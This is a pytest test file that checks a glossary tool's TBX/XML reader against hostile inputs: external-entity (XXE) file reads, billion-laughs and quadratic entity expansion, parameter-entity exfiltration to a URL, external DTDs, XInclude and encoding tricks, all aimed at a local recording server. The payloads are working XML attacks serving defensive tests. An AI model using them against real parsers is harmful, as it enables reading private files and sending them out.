"""Hostile TBX: external entities (XXE), billion laughs, DTDs fetched over the network, parameter
entities, XInclude, encodings that hide a declaration. Each is refused with an InputError (or
read as plain elements), no file outside is read, no network request is made, memory stays small,
and the secret file's content never appears in any output. (The project has no XLIFF/TMX reader.)"""

from __future__ import annotations

import http.server
import threading
import time
import tracemalloc
from pathlib import Path

import pytest

from review_app.cli.main import main
from review_app.errors import InputError
from review_app.glossary import glossary_to_csv, read_glossary, read_glossary_tbx
from review_app.glossary import tbx as tbx_module

BODY = ('<martif type="TBX-Basic" xml:lang="en"><text><body><termEntry id="e1"><langSet xml:lang="en"><tig>'
        "<term>{term}</term></tig></langSet><langSet xml:lang=\"zh\"><tig><term>火星</term></tig></langSet>"
        "</termEntry></body></text></martif>\n")


@pytest.fixture(scope="module")
def _server():
    """A local HTTP server that records every request (none may arrive)."""
    requests: list[str] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):  # noqa: N802
            requests.append(self.path)
            self.send_response(200)
            self.end_headers()
            self.wfile.write(b'<!ENTITY remote "REMOTE-ENTITY-EXPANDED">')

        def log_message(self, *args):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_address[1]}", requests
    server.shutdown()
    server.server_close()


@pytest.fixture
def http_server(_server):
    url, requests = _server
    requests.clear()
    return url, requests


def attacks(secret: Path, url: str) -> dict[str, str]:
    laughs = "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 12))
    return {
        "xxe-file": f'<?xml version="1.0"?>\n<!DOCTYPE martif [\n<!ENTITY x SYSTEM "file://{secret}">\n]>\n'
                    + BODY.format(term="&x;"),
        "xxe-file-in-attribute": f'<!DOCTYPE martif [<!ENTITY x SYSTEM "file://{secret}">]>\n'
                                 + BODY.format(term="a").replace('id="e1"', 'id="&x;"'),
        "billion-laughs": f'<!DOCTYPE martif [<!ENTITY l0 "ha">{laughs}]>\n' + BODY.format(term="&l11;"),
        "quadratic-blowup": f'<!DOCTYPE martif [<!ENTITY a "{"x" * 50000}">]>\n' + BODY.format(term="&a;" * 5000),
        "parameter-entity": f'<!DOCTYPE martif [<!ENTITY % p SYSTEM "{url}/p.dtd"> %p;]>\n' + BODY.format(term="&remote;"),
        "parameter-entity-exfiltration": (
            f'<!DOCTYPE martif [<!ENTITY % file SYSTEM "file://{secret}">'
            f'<!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM \'{url}/?x=%file;\'>"> %eval; %exfil;]>\n'
            + BODY.format(term="a")),
        "external-dtd-over-http": f'<!DOCTYPE martif SYSTEM "{url}/TBXBasiccoreStructV02.dtd">\n'
                                  + BODY.format(term="&remote;"),
        "external-dtd-public-id": f'<!DOCTYPE martif PUBLIC "-//LISA OSCAR:1998//DTD for TBX//EN" "{url}/tbx.dtd">\n'
                                  + BODY.format(term="Mars"),
        "external-dtd-file": f'<!DOCTYPE martif SYSTEM "file://{secret}">\n' + BODY.format(term="Mars"),
        "xinclude": BODY.format(term=f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file://{secret}" '
                                     'parse="text"/>Mars'),
        "schema-location": BODY.format(term="Mars").replace(
            "<martif ", f'<martif xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
                        f'xsi:noNamespaceSchemaLocation="{url}/schema.xsd" '),
        "stylesheet-pi": f'<?xml-stylesheet type="text/xsl" href="{url}/x.xsl"?>\n' + BODY.format(term="Mars"),
    }


ATTACKS = list(attacks(Path("/x"), "http://x"))


@pytest.mark.parametrize("name", ATTACKS)
def test_attack_reads_nothing_fetches_nothing_and_leaks_nothing(name, secret, http_server, tmp_path):
    url, requests = http_server
    document = attacks(secret, url)[name]
    path = tmp_path / f"{name}.tbx"
    path.write_text(document, encoding="utf-8")
    tracemalloc.start()
    started = time.monotonic()
    try:
        glossary = read_glossary(path)
    except InputError as exc:
        outcome = str(exc)
    else:
        outcome = glossary_to_csv(glossary) + repr(glossary)
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    assert time.monotonic() - started < 5
    assert peak < 50 * 1024 * 1024, f"{name} used {peak / 1e6:.0f} MB"
    time.sleep(0.05)
    assert requests == [], f"{name} made a network request: {requests}"
    assert "TOP-SECRET" not in outcome and "REMOTE-ENTITY" not in outcome
    if "ENTITY" in document:
        assert "declares entities" in outcome, outcome


@pytest.mark.parametrize("name", ["xxe-file", "billion-laughs", "parameter-entity", "external-dtd-over-http",
                                  "xxe-file-in-attribute"])
def test_the_parser_itself_does_not_expand_when_the_precheck_is_bypassed(name, secret, http_server, monkeypatch,
                                                                         tmp_path):
    """Defence in depth: with the textual <!ENTITY check switched off, lxml's settings still hold."""
    url, requests = http_server
    monkeypatch.setattr(tbx_module, "refuse_entities", lambda text, label: None)
    tracemalloc.start()
    try:
        glossary = read_glossary_tbx("x.tbx", data=attacks(secret, url)[name].encode("utf-8"))
    except InputError as exc:
        outcome = str(exc)
    else:
        outcome = glossary_to_csv(glossary) + repr(glossary)
    finally:
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
    assert peak < 50 * 1024 * 1024
    assert requests == []
    assert "TOP-SECRET" not in outcome and "REMOTE-ENTITY" not in outcome and "haha" not in outcome


@pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig"])
def test_declarations_cannot_hide_in_another_encoding(encoding, secret):
    document = f'<!DOCTYPE martif [<!ENTITY x SYSTEM "file://{secret}">]>\n' + BODY.format(term="&x;")
    with pytest.raises(InputError) as info:
        read_glossary_tbx("x.tbx", data=document.encode(encoding))
    assert "TOP-SECRET" not in str(info.value)


@pytest.mark.parametrize("declared", ["UTF-7", "ISO-8859-1", "EBCDIC-US", "UTF-32"])
def test_exotic_declared_encodings_are_refused(declared):
    document = f'<?xml version="1.0" encoding="{declared}"?>\n' + BODY.format(term="Mars")
    with pytest.raises(InputError, match="not supported"):
        read_glossary_tbx("x.tbx", data=document.encode("utf-8"))


def test_nul_characters_are_refused():
    with pytest.raises(InputError, match="NUL"):
        read_glossary_tbx("x.tbx", data=BODY.format(term="Ma\x00rs").encode("utf-8"))


def test_deep_nesting_is_an_input_error_not_a_crash():
    deep = "<a>" * 100000 + "</a>" * 100000
    with pytest.raises(InputError, match="well-formed"):
        read_glossary_tbx("x.tbx", data=BODY.format(term=deep).encode("utf-8"))


@pytest.mark.parametrize("command", ["import", "validate", "check"])
def test_cli_never_prints_or_writes_the_secret(command, secret, http_server, tmp_path, capsys):
    url, requests = http_server
    for name, document in attacks(secret, url).items():
        evil = tmp_path / f"{name}.tbx"
        evil.write_text(document, encoding="utf-8")
        out = tmp_path / f"{name}.csv"
        if command == "check":
            mt = tmp_path / "mt.en"
            mt.write_text("Mars is red.\n", encoding="utf-8")
            argv = ["check", "--hyp", str(mt), "--glossary", str(evil), "--format", "csv", "--out", str(out)]
        elif command == "import":
            argv = ["glossary", "import", str(evil), "--out", str(out)]
        else:
            argv = ["glossary", "validate", str(evil)]
        code = main(argv)
        stdout, stderr = capsys.readouterr()
        written = out.read_text(encoding="utf-8") if out.exists() else ""
        for text in (stdout, stderr, written):
            assert "TOP-SECRET" not in text and "REMOTE-ENTITY" not in text, (name, command)
        if "ENTITY" in document:
            assert code == 2 and "declares entities" in stderr, (name, stderr)
    assert requests == []
